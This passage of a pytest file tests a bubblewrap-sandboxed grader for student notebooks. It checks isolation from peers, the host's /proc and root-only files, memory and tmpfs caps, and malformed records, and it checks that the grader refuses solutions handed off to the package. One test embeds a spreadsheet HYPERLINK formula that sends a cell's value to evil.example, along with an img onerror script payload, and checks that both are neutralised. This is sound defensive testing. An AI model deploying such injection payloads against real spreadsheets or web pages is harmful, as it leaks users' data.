    return "\n".join(p.read_text(encoding="utf-8", errors="replace")
                     for p in sorted(out.rglob("*")) if p.is_file())


def test_peers_are_out_of_reach_and_root_files_stay_roots(batch):
    """The attacker ran beside its peers for seconds, looking for their folders and processes."""
    rows = batch["rows"]
    full = grade.max_points(grade.EXERCISES["generator"])
    assert all(rows[f"peer-{k}.ipynb"].total() == full for k in (1, 2, 3))
    log = (batch["out"] / "logs" / "peers.ipynb.txt").read_text()
    assert "peers found: 0 []" in log and "planted: 0" in log, log
    canary, before = batch["canary"]
    after = canary.stat()
    assert (after.st_uid, after.st_gid, stat.S_IMODE(after.st_mode), after.st_size) == (
        before.st_uid, before.st_gid, 0o600, before.st_size)
    assert canary.read_text() == SECRET


def test_links_and_fifos_in_the_runs_folder_change_nothing(batch):
    log = (batch["out"] / "logs" / "fifo.ipynb.txt").read_text()
    planted = log.split("planted ")[1].split("\n")[0]
    assert all(name in planted for name in ("'outcome.json'", "'events.json'", "'stdout.txt'")), log
    assert batch["rows"]["fifo.ipynb"].total() == grade.max_points(grade.EXERCISES["generator"])


def test_a_flood_or_a_decode_bomb_is_an_invalid_record_and_the_batch_goes_on(batch):
    rows = batch["rows"]
    assert rows["flood.ipynb"].note == f"its record was invalid: more than {grade.MAX_RECORD} bytes"
    assert "more memory than allowed" in rows["bomb.ipynb"].note, rows["bomb.ipynb"].note
    assert rows["flood.ipynb"].total() == rows["bomb.ipynb"].total() == 0
    feedback = (batch["out"] / "feedback" / "bomb.ipynb.md").read_text()
    assert "Status: invalid record" in feedback


def test_a_name_that_is_not_utf8_gets_its_row(batch):
    row = batch["rows"]["caf\\xe9.ipynb"]
    assert row.status == "ok" and row.stem.startswith("caf_xe9.ipynb-")
    assert (batch["out"] / "feedback" / f"{row.stem}.md").is_file()


def test_formulas_and_html_are_neutralised(batch):
    with open(batch["out"] / "grades.csv", newline="") as fh:
        rows = {r["file"]: r for r in csv.DictReader(fh)}
    assert rows["formula.ipynb"]["name"] == "'" + '=HYPERLINK("http://evil.example?"&C2,"Ada")'
    assert rows["formula.ipynb"]["student_number"] == "'@SUM(1+1)"
    for row in rows.values():
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values()), row
    feedback = (batch["out"] / "feedback" / "injection.ipynb.md").read_text()
    assert "ValueError: &lt;img src=x onerror=alert(1)&gt; \\[click\\](http://evil.example)" in feedback
    assert "<img" not in _outputs(batch["out"] / "feedback") + (batch["out"] / "summary.md").read_text()
    headings = [line for line in feedback.splitlines() if line.startswith("#")]
    assert headings == ["# Feedback on injection.ipynb", "## generate\\_samples: 0 of 6 points"]
    assert "formula.ipynb" in (batch["out"] / "feedback" / "formula.ipynb.md").read_text()


def test_colliding_names_get_their_own_outputs(batch):
    rows = batch["rows"]
    spaced, underscored = rows["alice smith.ipynb"], rows["alice_smith.ipynb"]
    assert underscored.stem == "alice_smith.ipynb" and spaced.stem.startswith("alice_smith.ipynb-")
    full = grade.max_points(grade.EXERCISES["generator"])
    assert (spaced.total(), underscored.total()) == (full, full - 1)
    assert "Feedback on alice smith.ipynb" in (
        batch["out"] / "feedback" / f"{spaced.stem}.md").read_text()


def test_tmpfs_is_capped_and_vanishes(batch):
    log = (batch["out"] / "logs" / "shm.ipynb.txt").read_text()
    cap = _sandbox.tmpfs_size(grade.parse_size(MEMORY))
    for folder in ("/dev/shm", "/tmp", "/var/tmp", "."):
        assert f"{folder} stopped: OSError" in log, log
    assert f"written MB: {4 * (cap // 2**20)}" in log or int(
        log.split("written MB:")[1].split()[0]) <= 4 * cap // 2**20, log
    before, after = batch["shm"]
    # Other programs on the machine come and go in the host's /dev/shm meanwhile: Python's
    # multiprocessing keeps its semaphores there as sem.mp-*. Nothing else may appear.
    assert SHM_MARK not in after and {n for n in after if not n.startswith("sem.mp-")} <= set(before)


def test_root_only_files_and_the_hosts_proc_are_out_of_sight(batch):
    everything = _outputs(batch["out"])
    assert SECRET not in everything and "root:" not in everything
    feedback = (batch["out"] / "feedback" / "secrets.ipynb.md").read_text()
    assert "leaked: FileNotFoundError \\| FileNotFoundError" in feedback, feedback
    # The sandbox's own /proc: its process 1 shows no path of the grader's.
    assert "/tmp/memrnn-grade-" not in feedback and "--ro-bind" not in feedback, feedback
    log = (batch["out"] / "logs" / "secrets.ipynb.txt").read_text()
    seen = json.loads(log.split("processes seen:")[1].split("\n")[0].strip())
    assert seen == [1, 2], seen         # bubblewrap's init and the notebook: nothing of the host
    # The student's error, in the feedback, is one short line.
    line = next(t for t in feedback.splitlines() if t.startswith("Your notebook stopped"))
    assert len(line) < grade.ERROR_CHARS + 200


@pytest.mark.parametrize("style", [
    "my_generate_samples = memrnn.data.generate_samples",
    "my_generate_samples = memrnn.generate_samples",
    "my_generate_samples = getattr(importlib.import_module('memrnn.data'), 'generate_samples')",
    "def my_generate_samples(batch_size, seq_length, seed=None, dtype=np.float64):\n"
    "    yield from memrnn.generate_samples(batch_size, seq_length, seed=seed, dtype=dtype)",
    "def my_generate_samples(*args, **kwargs):\n"
    "    return __import__('memrnn').data.generate_samples(*args, **kwargs)",
])
def test_handing_the_work_to_the_package_earns_nothing(style, tmp_path):
    subs = tmp_path / "subs"
    subs.mkdir()
    _write(student_notebook("01-data"), subs / "lazy.ipynb",
           "import importlib\nimport numpy as np\nimport memrnn\n" + style + "\n")
    [row] = grade.grade(subs, tmp_path / "out", timeout=TIMEOUT, memory=grade.parse_size(MEMORY),
                        progress=False)
    assert row.total() == 0 and row.status == "ok"
    assert row.note == "no points: the code hands the exercise to memrnn's data.generate_samples"
    feedback = (tmp_path / "out" / "feedback" / "lazy.ipynb.md").read_text()
    assert "No points for this exercise" in feedback and "Well done" not in feedback


def _write_stubs(nb, path: Path, codes, *, name="Ada", number="12345"):
    """The notebook ``nb`` with its stubs, in order, replaced by ``codes`` (None keeps a stub)."""
    nb = copy.deepcopy(nb)
    stubs = [c for c in nb.cells if "stub" in c.metadata.get("tags", [])]
    assert len(stubs) == len(codes)
    for cell, code in zip(stubs, codes):
        if code is not None:
            cell.source = code
    nb.metadata["memrnn_student"] = {"name": name, "number": number}
    nbformat.write(nb, path)


DELEGATES = CORRECT_BPTT.split("class MyRNN")[0] + (
    "class MyRNN(memrnn.RNN):\n"
    "    def backward(self, d_loss):\n"
    "        return super().backward(d_loss)\n")


def test_a_chapter_with_two_exercises_grades_each_in_one_row(tmp_path):
    """Chapter 3 asks for the numerical gradient, then BPTT: one row, the points of each."""
    nb = student_notebook("03-gradcheck")
    subs = tmp_path / "subs"
    subs.mkdir()
    _write_stubs(nb, subs / "both.ipynb", [CORRECT_NUMERICAL_GRADIENT, CORRECT_BPTT])
    _write_stubs(nb, subs / "first.ipynb", [CORRECT_NUMERICAL_GRADIENT, None])
    _write_stubs(nb, subs / "delegates.ipynb", [CORRECT_NUMERICAL_GRADIENT, DELEGATES])
    exits = CORRECT_BPTT.replace("        x, A = self.x, self.A\n",
                                 "        import os\n        os._exit(3)\n")
    assert exits != CORRECT_BPTT
    _write_stubs(nb, subs / "exits.ipynb", [CORRECT_NUMERICAL_GRADIENT, exits])
    sub = grade.read_submission(subs / "both.ipynb")
    # Every code cell up to the last check, the stub of each exercise among them, no check.
    assert sum("def my_numerical_gradient" in c or "class MyRNN" in c for c in sub.cells) == 2
    assert not any("selfcheck.check_" in c for c in sub.cells)
    out = tmp_path / "out"
    rows = {r.file: r for r in grade.grade(subs, out, timeout=TIMEOUT, jobs=2,
                                           memory=grade.parse_size(MEMORY), progress=False)}
    numgrad, bptt = (grade.max_points(grade.EXERCISES[k]) for k in ("numerical_gradient", "bptt"))
    assert numgrad >= 3 and bptt == 5
    assert {f: (r.status, r.points) for f, r in rows.items()} == {
        "both.ipynb": ("ok", {"numerical_gradient": numgrad, "bptt": bptt}),
        "first.ipynb": ("ok", {"numerical_gradient": numgrad, "bptt": 0}),
        "delegates.ipynb": ("ok", {"numerical_gradient": numgrad, "bptt": 0}),
        # One run dies: the row takes the worse status, and keeps the other exercise's points.
        "exits.ipynb": ("crashed", {"numerical_gradient": numgrad, "bptt": 0})}
    assert rows["exits.ipynb"].note == "MyRNN: exit status 3"
    with open(out / "grades.csv", newline="") as fh:
        table = {r["file"]: r for r in csv.DictReader(fh)}
    assert table["both.ipynb"]["total"] == table["both.ipynb"]["max_total"] == str(numgrad + bptt)
    assert (table["first.ipynb"]["points_numerical_gradient"],
            table["first.ipynb"]["points_bptt"]) == (str(numgrad), "0")
    both = (out / "feedback" / "both.ipynb.md").read_text()
    headings = [line for line in both.splitlines() if line.startswith("## ")]
    assert len(headings) == 2 and headings[1] == f"## RNN backward: {bptt} of {bptt} points"
    assert headings[0].endswith(f": {numgrad} of {numgrad} points") and both.count("Well done") == 2
    # Only the first written: the second's stub is named as not written yet.
    first = rows["first.ipynb"]
    assert first.failures and all("not written yet" in why for _, why in first.failures)
    assert first.note == ""
    feedback = (out / "feedback" / "first.ipynb.md").read_text()
    assert f"## RNN backward: 0 of {bptt} points" in feedback and "not written yet" in feedback
    # Handing backward to the package's: no points for that exercise, and the reason.
    assert rows["delegates.ipynb"].note == (
        "MyRNN: no points: the code hands the exercise to memrnn's rnn.RNN.backward")
    feedback = (out / "feedback" / "delegates.ipynb.md").read_text()
    section = feedback.split("## RNN backward")[1]
    assert "No points for this exercise" in section and "Well done" not in section
    assert feedback.split("## RNN backward")[0].count("Well done") == 1
    summary = (out / "summary.md").read_text()
    assert "| RNN backward, backpropagation through time (chapter 3) | 4 | 1 | 25% |" in summary


GUARDS = """
import json, memrnn
from memrnn import selfcheck
from memrnn.grading import record
from memrnn.grading.exercises import EXERCISES
out = {}
for key, get in [("lstm_cell_backward", lambda: selfcheck.lstm_cell_backward),
                 ("learner", lambda: type("MyLearner", (memrnn.Learner,), {})),
                 ("rnn_backward", lambda: type("MyFastRNN", (memrnn.FastRNN,), {})),
                 ("bptt", lambda: type("MyRNN", (memrnn.RNN,), {})),
                 ("mse", lambda: memrnn.MSELoss)]:
    recorder = record.Recorder()
    record.guard(EXERCISES[key].guarded, recorder)
    report = EXERCISES[key].check(recorder.wrap(get(), key))
    out[key] = [sum(ok for _, ok, _ in report.items), sorted(set(recorder.delegated))]
print(json.dumps(out))
"""


def test_the_guards_cover_reexports_aliases_and_inherited_methods():
    """In a process of its own, since the guards change the package they are put on."""
    proc = subprocess.run([sys.executable, "-c", GUARDS], capture_output=True, text=True,
                          timeout=300, cwd=ROOT)
    assert proc.returncode == 0, proc.stderr
    out = json.loads(proc.stdout)
    # No check passes: every answer the check asked for was refused.
    assert out == {"lstm_cell_backward": [0, ["lstm.cell_backward"]],
                   "learner": [0, ["learner.Learner.train_step"]],
                   "rnn_backward": [0, ["fast.FastRNN.backward"]],
                   "bptt": [0, ["rnn.RNN.backward"]],
                   "mse": [0, ["losses.MSELoss.forward"]]}


def test_without_bubblewrap_it_refuses_unless_told_and_then_says_so(batch, tmp_path):
    subs = tmp_path / "subs"
    subs.mkdir()
    (subs / "correct.ipynb").write_bytes((batch["subs"] / "correct.ipynb").read_bytes())
    env = {**os.environ, "MEMRNN_BWRAP": str(tmp_path / "no-bwrap-here")}
    cmd = [sys.executable, "-m", "memrnn", "grade", str(subs), "-o", str(tmp_path / "out"),
           "--timeout", "60", "--memory", "1G", "--quiet"]
    proc = subprocess.run(cmd, capture_output=True, text=True, cwd=tmp_path, env=env, timeout=300)
    assert proc.returncode == 2 and "--no-sandbox runs them unprotected" in proc.stderr, proc.stderr
    assert not (tmp_path / "out").exists()
    proc = subprocess.run(cmd + ["--no-sandbox"], capture_output=True, text=True, cwd=tmp_path,
                          env=env, timeout=300)
    assert proc.returncode == 0, proc.stderr
    assert "WARNING: NOT sandboxed" in proc.stderr and "NO SANDBOX" in proc.stderr
    with open(tmp_path / "out" / "grades.csv", newline="") as fh:
        [row] = list(csv.DictReader(fh))
    assert row["note"].startswith("NOT sandboxed") and row["total"] == "6", row


@pytest.mark.parametrize("data, why", [
    (b"", "does not start as a record"),
    (stream.MAGIC + b"\xff\xff\xff\xff", "frame header of"),
    (stream.MAGIC + stream.frame("array", b"x" * 8, key="a", dtype="|O", shape=[1]), "not a number"),
    (stream.MAGIC + stream.frame("array", b"x" * 8, key="a", dtype="<f8", shape=[2]), "not its shape"),
    (stream.MAGIC + stream.frame("events", b"[" * 100_000), "nested too deeply"),
    (stream.MAGIC + stream.frame("events", b"{}"), "no outcome"),
    (stream.MAGIC + stream.frame("outcome", b"{}") * 2, "two outcome frames"),
    (stream.MAGIC + stream.frame("other", b""), "a frame named"),
])
def test_a_malformed_record_is_refused_with_its_reason(data, why):
    with pytest.raises(stream.InvalidRecord, match=why):
        stream.decode(data)


def test_decoding_counts_every_copy_and_every_level():
    big = np.zeros(2**20)
    events = {"events": [{"result": {"t": "list", "v": [{"t": "array", "k": "b"}] * 100}}]}
    record = stream.decode(stream.encode({}, events, "", {"b": big}))
    replayer = _replay.Replayer(record, budget=10 * big.nbytes)
    with pytest.raises(stream.InvalidRecord, match="more memory"):
        replayer._decode_result(replayer.events[0]["result"])
    deep = {"t": "list", "v": []}
    for _ in range(100):
        deep = {"t": "list", "v": [deep]}
    with pytest.raises(stream.InvalidRecord, match="nested too deeply"):
        _record._decode_data(deep, _record._Arrays())


def test_as_root_the_sandbox_needs_no_user_namespace_and_drops_every_capability():
    """The route for a container: root makes the namespaces, the notebook runs as its slot's uid."""
    argv = _sandbox._bwrap_argv("bwrap", slot=3, memory=2**30, job="/x/job.json")
    if os.geteuid() != 0:
        assert "--unshare-user" in argv and "--disable-userns" in argv
        pytest.skip("the root route: this test runs as another user")
    assert "--unshare-user" not in argv
    for flag in ("--unshare-ipc", "--unshare-pid", "--unshare-net", "--unshare-uts",
                 "--die-with-parent", "--new-session"):
        assert flag in argv, flag
    uid = _sandbox.SLOT_UID + 3
    drop = argv[argv.index("--") + 1:]
    assert drop[1:] == [f"--reuid={uid}", f"--regid={uid}", "--clear-groups", "--inh-caps=-all",
                        "--bounding-set=-all", "--no-new-privs", "--"]
    sizes = [int(argv[i + 1]) for i, a in enumerate(argv) if a == "--size"]
    assert sizes == [_sandbox.tmpfs_size(2**30)] * 4
    assert _sandbox.address_space(2**30) + sum(sizes) == 2**30


COPIES = """
import json, types, memrnn
from memrnn.grading import record
from memrnn.grading.exercises import EXERCISES

def copy(fn):
    new = types.FunctionType(fn.__code__, fn.__globals__, fn.__name__, fn.__defaults__, fn.__closure__)
    new.__kwdefaults__ = fn.__kwdefaults__
    return new

def own(dotted):
    # The package's solution, copied: the same code, not the same object.
    owner, attr, real = record._owner(dotted)
    if isinstance(owner, type):
        return owner, attr, copy(real)
    return None, attr, copy(real)

out = {}
for key, exercise in EXERCISES.items():
    pieces = [own(d) for d in exercise.guarded]
    if pieces[0][0] is None:
        student = pieces[0][2]
    else:
        base = pieces[0][0]
        methods = {attr: fn for _, attr, fn in pieces}
        student = type("Mine", (base,) if key in ("learner", "rnn_backward", "bptt") else (), methods) \
            if key != "mse" else type("Mine", (), {**{k: v for k, v in vars(base).items()
                                                       if not k.startswith("__") or k == "__init__"},
                                                    **methods})
    recorder = record.Recorder()
    record.guard(exercise.guarded, recorder)
    report = exercise.check(recorder.wrap(student, key))
    out[key] = [sum(ok for _, ok, _ in report.items), len(report.items), recorder.delegated]
print(json.dumps(out))
"""


def test_the_guards_leave_a_correct_answer_of_every_exercise_its_full_marks():
    """A copy of the package's code is the student's own object: under the guards, as in the
    sandbox, every exercise's check passes it, and the package's solution is never refused."""
    proc = subprocess.run([sys.executable, "-c", COPIES], capture_output=True, text=True,
                          timeout=600, cwd=ROOT)
    assert proc.returncode == 0, proc.stderr
    out = json.loads(proc.stdout)
    assert sorted(out) == sorted(grade.EXERCISES)
    for key, (passed, total, refused) in out.items():
        assert passed == total == grade.max_points(grade.EXERCISES[key]) and refused == [], (key, out)
